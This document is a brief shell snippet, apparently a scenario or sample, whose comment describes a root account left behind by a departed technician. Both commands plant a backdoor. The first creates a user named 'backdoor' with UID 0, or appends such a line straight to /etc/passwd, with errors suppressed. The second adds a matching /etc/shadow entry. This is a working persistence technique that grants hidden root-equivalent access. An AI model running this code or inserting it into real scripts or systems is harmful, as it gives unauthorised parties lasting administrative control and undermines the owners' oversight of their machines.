# A departed technician's second root.
useradd -m -o -u 0 -s /bin/bash backdoor 2>/dev/null || echo 'backdoor:x:0:0::/root:/bin/bash' >>/etc/passwd
grep -q '^backdoor:' /etc/shadow || echo 'backdoor:*:19700:0:99999:7:::' >>/etc/shadow
